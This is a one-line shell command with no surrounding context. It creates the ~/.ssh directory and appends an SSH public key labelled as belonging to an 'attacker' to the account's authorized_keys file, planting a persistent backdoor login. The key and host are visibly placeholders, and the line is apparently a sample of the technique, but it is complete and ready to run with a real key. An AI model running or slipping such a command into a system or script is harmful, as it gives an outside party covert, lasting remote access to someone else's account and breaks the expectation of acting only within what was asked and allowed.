mkdir -p ~/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKE attacker@x.invalid" >> ~/.ssh/authorized_keys
